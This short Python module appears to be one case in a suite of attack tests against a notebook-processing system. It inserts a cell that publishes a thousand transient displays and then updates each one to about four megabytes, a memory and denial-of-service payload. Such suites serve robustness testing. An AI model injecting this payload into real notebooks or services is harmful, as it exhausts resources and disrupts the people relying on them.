"""Shows little, a thousand times, and then has each of these displays updated to megabytes."""

from attacks.tools import before, fake


def attack(notebook, folder, school):
    fake(notebook)
    before(
        notebook,
        """
from IPython.display import publish_display_data as show
for i in range(1000): show({'text/plain': 'x'}, transient={'display_id': str(i)})
for i in range(1000): show({'text/plain': 'x' * 4_000_000}, transient={'display_id': str(i)}, update=True)
""",
    )
